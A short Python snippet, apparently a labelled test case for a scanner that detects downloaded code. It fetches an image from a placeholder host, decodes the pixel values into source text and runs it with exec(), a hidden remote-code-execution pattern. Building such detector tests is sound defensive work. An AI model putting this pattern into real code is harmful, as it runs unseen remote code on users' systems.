# expect: 6 downloaded-code
from PIL import Image
import requests, io
img = Image.open(io.BytesIO(requests.get('https://h.invalid/a.png').content))
code = ''.join(chr(p[0]) for p in img.getdata())
exec(code)
